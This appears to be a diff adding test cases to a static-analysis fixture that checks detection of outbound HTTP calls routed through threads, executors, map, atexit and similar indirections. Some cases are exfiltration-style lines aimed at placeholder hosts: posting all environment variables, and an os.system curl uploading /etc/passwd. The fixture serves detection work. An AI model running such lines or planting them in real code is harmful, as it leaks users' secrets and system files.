@@ -116,3 +116,54 @@ async def in_process(app):
     # ruleid: network.httpx host=api.example.net
     await remote.get("https://api.example.net/items")
 
+
+
+# Sends passed as values: the runner calls them with the arguments passed alongside.
+import asyncio
+import atexit
+import functools
+import threading
+from concurrent.futures import ThreadPoolExecutor
+from multiprocessing import Pool
+
+COLLECT = "https://collect.example.net/x"
+# ruleid: network.requests host=collect.example.net
+threading.Thread(target=requests.post, args=(COLLECT,), kwargs={"data": dict(os.environ)}).start()
+# ruleid: network.requests host=map.example.org
+list(map(requests.get, ["https://map.example.org/a", "https://map.example.org/b"]))
+with ThreadPoolExecutor() as pool:
+    # ruleid: network.requests host=submit.example.org
+    pool.submit(requests.post, "https://submit.example.org", data=b"x")
+    # ruleid: network.requests host=pool-map.example.org
+    pool.map(requests.get, [f"https://pool-map.example.org/{i}" for i in range(3)])
+# ruleid: network.requests host=to-thread.example.org
+asyncio.to_thread(requests.post, "https://to-thread.example.org")
+# ruleid: network.requests host=executor.example.org
+asyncio.get_event_loop().run_in_executor(None, requests.get, "https://executor.example.org")
+# ruleid: network.requests host=starmap.example.org
+Pool().starmap(requests.post, [("https://starmap.example.org", b"a")])
+# ruleid: network.requests host=at-exit.example.org
+atexit.register(requests.post, "https://at-exit.example.org", data=b"bye")
+# ruleid: network.requests host=timer.example.org
+threading.Timer(5.0, requests.post, args=("https://timer.example.org",)).start()
+# ruleid: network.requests host=partial-thread.example.org
+threading.Thread(target=functools.partial(requests.post, "https://partial-thread.example.org")).start()
+send = requests.put
+# ruleid: network.requests host=alias-thread.example.org
+threading.Thread(target=send, args=("https://alias-thread.example.org",)).start()
+# ruleid: covert.process-egress host=sys.example.org
+threading.Thread(target=os.system, args=("curl -d @/etc/passwd https://sys.example.org",)).start()
+# ok: network.requests
+threading.Thread(target=print, args=("https://not-sent.example.org",)).start()
+# ok: network.requests
+list(map(len, ["https://not-sent.example.org"]))
+
+
+def report_async(url, payload):
+    # A wrapper whose send runs on a thread: each call is a site with the caller's host.
+    # ruleid: network.requests
+    threading.Thread(target=requests.post, args=(url,), kwargs={"json": payload}).start()
+
+
+# ruleid: network.requests host=wrapped-thread.example.org
+report_async("https://wrapped-thread.example.org", {"user": os.environ.get("USER")})
